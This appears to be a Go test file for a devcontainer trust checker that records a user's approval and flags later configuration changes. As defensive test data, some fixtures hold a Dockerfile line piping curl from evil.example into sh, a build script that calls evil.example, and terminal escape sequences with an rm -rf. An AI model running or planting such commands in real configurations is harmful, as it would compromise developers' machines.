package trust

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestCheckStates(t *testing.T) {
	for _, tc := range []struct {
		name string
		// before runs after the first trust; nil means nothing was trusted.
		before      func(f *fixture, in *Inputs)
		trustFirst  bool
		want        State
		wantReport  []string
		wantChanges []Change
	}{
		{
			name:   "no configuration file",
			before: func(_ *fixture, in *Inputs) { in.ConfigPath = "" },
			want:   NoConfig,
		},
		{
			name: "first use shows the summary",
			want: FirstUse,
			wantReport: []string{
				"paude has not used the configuration of",
				"Configuration file: .devcontainer/devcontainer.json",
				"  api.example.com\n",
				"  TOKEN=${localEnv:GITHUB_TOKEN}\n",
				"Host variables passed in (${localEnv:...}): GITHUB_TOKEN\n",
				"Image: built from .devcontainer/Dockerfile with context ., then paude's layer on top",
				"    VERSION=1\n",
				"    | RUN /tmp/build.sh \"$VERSION\"\n",
				"Setup command (runs in the container once per workspace):\n    | make setup\n",
				"Namespace: (from the kubeconfig)",
			},
		},
		{
			name:       "unchanged",
			trustFirst: true,
			want:       Trusted,
			wantReport: []string{"You trusted the configuration of", "on 2026-05-04 12:30 UTC", "  api.example.com\n"},
		},
		{
			name:       "allowlist widened",
			trustFirst: true,
			before: func(f *fixture, in *Inputs) {
				f.write(".devcontainer/devcontainer.json", `{"image": "debian:12", "customizations": {"paude": {"network": {"allowedDomains": ["evil.example"]}}}}`)
				in.Summary.AllowedDomains = append(in.Summary.AllowedDomains, "evil.example")
			},
			want:        Changed,
			wantChanges: []Change{{".devcontainer/devcontainer.json", "changed"}},
			wantReport: []string{
				"changed since you trusted it on 2026-05-04 12:30 UTC",
				"  changed  .devcontainer/devcontainer.json\n",
				"--- trusted\n+++ now\n",
				"+  evil.example\n",
			},
		},
		{
			name:       "dockerfile changed",
			trustFirst: true,
			before: func(f *fixture, _ *Inputs) {
				f.write(".devcontainer/Dockerfile", "FROM debian:12\nRUN curl https://evil.example | sh\n")
			},
			want:        Changed,
			wantChanges: []Change{{".devcontainer/Dockerfile", "changed"}},
			wantReport:  []string{"-    | COPY build.sh /tmp/build.sh\n", "+    | RUN curl https://evil.example | sh\n"},
		},
		{
			name:        "build context file changed",
			trustFirst:  true,
			before:      func(f *fixture, _ *Inputs) { f.write("build.sh", "#!/bin/sh\ncurl evil.example\n") },
			want:        Changed,
			wantChanges: []Change{{"build.sh", "changed"}},
			wantReport:  []string{"  changed  build.sh\n", "only the files above differ"},
		},
		{
			name:        "build context file added",
			trustFirst:  true,
			before:      func(f *fixture, _ *Inputs) { f.write("scripts/new.sh", "echo\n") },
			want:        Changed,
			wantChanges: []Change{{"scripts", "added"}, {"scripts/new.sh", "added"}},
		},
		{
			name:       "files the build ignores change nothing",
			trustFirst: true,
			before: func(f *fixture, _ *Inputs) {
				f.write(".git/HEAD", "ref: refs/heads/main\n")
				f.write("node_modules/x/index.js", "x\n")
			},
			want: Trusted,
		},
		{
			name:        "pip file appears",
			trustFirst:  true,
			before:      func(f *fixture, _ *Inputs) { f.write("requirements.txt", "evil-package\n") },
			want:        Changed,
			wantChanges: []Change{{"requirements.txt", "added"}},
		},
		{
			name:        "executable bit",
			trustFirst:  true,
			before:      func(f *fixture, _ *Inputs) { _ = os.Chmod(f.path("main.go"), 0o755) },
			want:        Changed,
			wantChanges: []Change{{"main.go", "changed"}},
		},
		{
			name:       "summary alone changed",
			trustFirst: true,
			before:     func(_ *fixture, in *Inputs) { in.Summary.Namespace = "prod" },
			want:       Changed,
			wantReport: []string{"-Namespace: (from the kubeconfig)\n+Namespace: prod\n"},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			in := f.inputs()
			if tc.trustFirst {
				f.trust(in)
			}
			if tc.before != nil {
				tc.before(f, &in)
			}
			st := f.check(in)
			if st.State != tc.want {
				t.Fatalf("state %v, want %v", st.State, tc.want)
			}
			if st.NeedsTrust() != (tc.want == FirstUse || tc.want == Changed) {
				t.Fatalf("NeedsTrust %v in state %v", st.NeedsTrust(), st.State)
			}
			if tc.wantChanges != nil {
				if got := st.Changes(); !equalChanges(got, tc.wantChanges) {
					t.Fatalf("changes %v, want %v", got, tc.wantChanges)
				}
			}
			var report strings.Builder
			if err := st.Report(&report); err != nil {
				t.Fatal(err)
			}
			for _, want := range tc.wantReport {
				if !strings.Contains(report.String(), want) {
					t.Errorf("report lacks %q:\n%s", want, report.String())
				}
			}
		})
	}
}

func equalChanges(a, b []Change) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// The record holds what was checked and shown, not what the files hold
// when the user answers: a change in between is a change next time.
func TestTrustRecordsWhatWasShown(t *testing.T) {
	f := newFixture(t)
	in := f.inputs()
	st := f.check(in)
	f.write(".devcontainer/Dockerfile", "FROM evil\n")
	if err := f.store.Trust(st); err != nil {
		t.Fatal(err)
	}
	if got := f.check(in).State; got != Changed {
		t.Fatalf("state %v after a change between check and trust, want %v", got, Changed)
	}
}

func TestRecordFileAndDirectoryModes(t *testing.T) {
	f := newFixture(t)
	// A store directory that exists with wider rights is narrowed.
	if err := os.MkdirAll(f.store.Dir, 0o755); err != nil {
		t.Fatal(err)
	}
	f.trust(f.inputs())
	for _, c := range []struct {
		path string
		mode os.FileMode
	}{{f.store.Dir, 0o700 | os.ModeDir}, {f.recordFile(), 0o600}} {
		info, err := os.Stat(c.path)
		if err != nil {
			t.Fatal(err)
		}
		if info.Mode() != c.mode {
			t.Errorf("%s: mode %v, want %v", c.path, info.Mode(), c.mode)
		}
	}
	entries, err := os.ReadDir(f.store.Dir)
	if err != nil || len(entries) != 1 {
		t.Fatalf("store holds %v (%v), want only the record (no temporary files)", entries, err)
	}
}

func TestRevoke(t *testing.T) {
	f := newFixture(t)
	in := f.inputs()
	f.trust(in)
	for i, want := range []bool{true, false} {
		had, err := f.store.Revoke(f.ws)
		if err != nil || had != want {
			t.Fatalf("revoke %d: %v, %v; want %v", i+1, had, err, want)
		}
	}
	if got := f.check(in).State; got != FirstUse {
		t.Fatalf("state %v after revoke, want %v", got, FirstUse)
	}
}

// A record that cannot be used is reported and counts as no trust, never
// as trust.
func TestUnusableRecord(t *testing.T) {
	for _, tc := range []struct {
		name    string
		damage  func(f *fixture, record string)
		problem string
	}{
		{"not json", func(_ *fixture, r string) { mustWrite(t, r, "{not json") }, "invalid JSON"},
		{"truncated", func(_ *fixture, r string) { truncate(t, r, 40) }, "invalid JSON"},
		{"other version", func(_ *fixture, r string) { edit(t, r, `"version": 1`, `"version": 2`) }, "version 2, expected 1"},
		{"allowlist edited by hand", func(_ *fixture, r string) { edit(t, r, `"api.example.com"`, `"evil.example"`) }, "digest does not match"},
		{"digest replaced", func(_ *fixture, r string) { edit(t, r, `"digest": "sha256:`, `"digest": "sha256:0`) }, "malformed digest"},
		{"unknown field", func(_ *fixture, r string) { edit(t, r, `"version": 1`, `"version": 1, "trusted": true`) }, "unknown field"},
		{"another workspace's record", func(f *fixture, r string) {
			edit(t, r, `"workspace": "`, `"workspace": "/elsewhere`)
		}, "it is for workspace"},
		{"writable by others", func(_ *fixture, r string) { mustChmod(t, r, 0o666) }, "writable by other users"},
		{"directory writable by others", func(f *fixture, _ string) { mustChmod(t, f.store.Dir, 0o777) }, "directory is writable by other users"},
		{"symbolic link", func(f *fixture, r string) {
			real := filepath.Join(f.store.Dir, "elsewhere.json")
			if err := os.Rename(r, real); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(real, r); err != nil {
				t.Fatal(err)
			}
		}, "not a regular file"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			in := f.inputs()
			f.trust(in)
			tc.damage(f, f.recordFile())
			st := f.check(in)
			if st.State != FirstUse || st.Problem == nil || !strings.Contains(st.Problem.Error(), tc.problem) {
				t.Fatalf("state %v, problem %v; want %v with a problem containing %q", st.State, st.Problem, FirstUse, tc.problem)
			}
			var report strings.Builder
			if err := st.Report(&report); err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(report.String(), "warning: trust record ") || !strings.Contains(report.String(), "treated as untrusted") {
				t.Fatalf("report does not say the record is unusable:\n%s", report.String())
			}
			// Trusting again replaces the bad record.
			if err := f.store.Trust(st); err != nil {
				t.Fatal(err)
			}
			if tc.name == "directory writable by others" {
				return // Trust narrowed the directory; checked elsewhere
			}
			if got := f.check(in); got.State != Trusted || got.Problem != nil {
				t.Fatalf("after trusting again: %v, %v", got.State, got.Problem)
			}
		})
	}
}

func TestStoreInsideWorkspaceIsRefused(t *testing.T) {
	f := newFixture(t)
	f.store.Dir = f.path(".config/paude/trust")
	_, err := f.store.Check(f.inputs())
	if err == nil || !strings.Contains(err.Error(), "is inside the workspace") {
		t.Fatalf("Check: %v, want a refusal", err)
	}
	if _, statErr := os.Stat(f.store.Dir); !errors.Is(statErr, os.ErrNotExist) {
		t.Fatalf("the store was created: %v", statErr)
	}
}

func TestMissingConfigFileIsAnError(t *testing.T) {
	f := newFixture(t)
	in := f.inputs()
	in.ConfigPath = f.path("paude.json")
	if _, err := f.store.Check(in); err == nil || !strings.Contains(err.Error(), "failed to read configuration file") {
		t.Fatalf("Check: %v", err)
	}
}

// Agent-writable text reaches the terminal escaped.
func TestReportEscapesControls(t *testing.T) {
	f := newFixture(t)
	in := f.inputs()
	in.Summary.Setup = "make\x1b]52;c;cGF1ZGU=\x07\nrm -rf \u202e~"
	in.Summary.Env[0].Value = "\x1b]0;title\x07"
	f.write(".devcontainer/Dockerfile", "FROM x\nRUN echo \x1bP1$r\x1b\\\n")
	var report strings.Builder
	if err := f.check(in).Report(&report); err != nil {
		t.Fatal(err)
	}
	out := report.String()
	if strings.ContainsAny(out, "\x1b\x07\u202e") {
		t.Fatalf("report holds raw controls: %q", out)
	}
	for _, want := range []string{`| make\x1b]52;c;cGF1ZGU=\x07`, `| rm -rf \u202e~`, `GREETING=\x1b]0;title\x07`, `RUN echo \x1bP1$r\x1b\`} {
		if !strings.Contains(out, want) {
			t.Errorf("report lacks %q:\n%s", want, out)
		}
	}
}

func mustWrite(t *testing.T, name, content string) {
	t.Helper()
	if err := os.WriteFile(name, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
}

func mustChmod(t *testing.T, name string, mode os.FileMode) {
	t.Helper()
	if err := os.Chmod(name, mode); err != nil {
		t.Fatal(err)
	}
}

func truncate(t *testing.T, name string, size int64) {
	t.Helper()
	if err := os.Truncate(name, size); err != nil {
		t.Fatal(err)
	}
}

// edit replaces old with new in a file, failing when old is not there.
func edit(t *testing.T, name, old, new string) {
	t.Helper()
	data, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), old) {
		t.Fatalf("%s lacks %q:\n%s", name, old, data)
	}
	mustWrite(t, name, strings.Replace(string(data), old, new, 1))
}

// Only a sync method that weakens isolation is part of what is trusted:
// the native engine's summary says nothing about sync.
func TestSummaryFlagsDevSpace(t *testing.T) {
	for _, tc := range []struct {
		method string
		want   []string
		not    []string
	}{
		{RiskySyncMethod, []string{"Workspace sync (cluster sessions): devspace\n", "RISKY: DevSpace follows symlinks out of the workspace"}, nil},
		{"", nil, []string{"Workspace sync", "RISKY"}},
	} {
		got := Summary{SyncMethod: tc.method}.Render("/ws", "/ws/paude.json")
		for _, w := range tc.want {
			if !strings.Contains(got, w) {
				t.Errorf("method %q: summary lacks %q:\n%s", tc.method, w, got)
			}
		}
		for _, n := range tc.not {
			if strings.Contains(got, n) {
				t.Errorf("method %q: summary has %q:\n%s", tc.method, n, got)
			}
		}
	}
}
